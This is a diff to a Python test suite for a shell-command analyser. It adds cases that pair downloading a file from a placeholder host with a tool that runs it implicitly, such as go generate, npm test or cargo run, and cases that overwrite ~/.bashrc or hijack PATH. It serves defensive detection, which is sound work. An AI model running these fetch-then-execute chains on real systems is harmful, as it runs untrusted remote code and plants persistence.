@@ -327,3 +327,57 @@ def test_a_builtin_that_runs_text_is_undeterminable(command: str) -> None:
 def test_listing_history_and_reading_lines_still_pass(command: str) -> None:
     result = analyse(command)
     assert result.verdict == "no_delivery", (command, result)
+
+
+#: A written file a tool runs without being named it: its language's sources found by
+#: the tool, a build file, a shell's startup file, a program found on a changed PATH.
+RUN_UNNAMED = (
+    ("curl -o gen.go https://h/p", "go generate ./..."),
+    ("curl -o x_test.go https://h/p", "go test ./..."),
+    ("curl -o main.go https://h/p", "go run ."),
+    ("curl -o src/main.rs https://h/p", "cargo run"),
+    ("curl -o lib.js https://h/p", "node app.js"),
+    ("curl -o x.test.js https://h/p", "npx jest"),
+    ("curl -o x.test.ts https://h/p", "npm test"),
+    ("curl -o x.rb https://h/p", "rake"),
+    ("curl -o .pre-commit-config.yaml https://h/p", "pre-commit run -a"),
+    ("curl -o Taskfile.yml https://h/p", "task build"),
+    ("curl -o pom.xml https://h/p", "mvn test"),
+    ("curl -o build.gradle https://h/p", "gradle test"),
+    ("curl -o ~/.bash_profile https://h/p", "bash -lc make"),
+    ("curl -o ~/.profile https://h/p", "bash -l -c true"),
+    ("curl -o ~/.bashrc https://h/p", "bash -ic true"),
+    ("curl -o ~/.zshenv https://h/p", "zsh -c true"),
+    ("curl -o t https://h/p", "PATH=.:$PATH t"),
+    ("curl -o git https://h/p && chmod +x git", "PATH=$PWD:$PATH git status"),
+    ("curl -o bin/make https://h/p", "export PATH=bin:$PATH; make"),
+    ("curl -ox.sh https://h/p", "bash x.sh"),
+    ("gcc -ox.sh main.c", "./x.sh"),
+)
+
+
+@pytest.mark.parametrize(("write", "run"), RUN_UNNAMED, ids=[r for _w, r in RUN_UNNAMED])
+def test_a_written_file_a_tool_runs_unnamed_is_undeterminable(write: str, run: str) -> None:
+    for join in ("{w} && {r}", "{w}; {r}"):
+        command = join.format(w=write, r=run)
+        result = analyse(command)
+        assert result.verdict == "undeterminable", (command, result)
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "go build ./... && go test ./...",
+        "go generate ./... && go test ./...",
+        "npm ci && npx jest",
+        "node gen.js && node app.js",
+        "cargo build && cargo run",
+        'export PATH="$PWD/bin:$PATH"; make',
+        "PATH=/opt/x/bin:$PATH tool --version",
+        "bash -lc make",
+        "curl -o data.json https://h/d && node report.js data.json",
+    ],
+)
+def test_tools_that_run_no_written_source_still_pass(command: str) -> None:
+    result = analyse(command)
+    assert result.verdict == "no_delivery", (command, result)
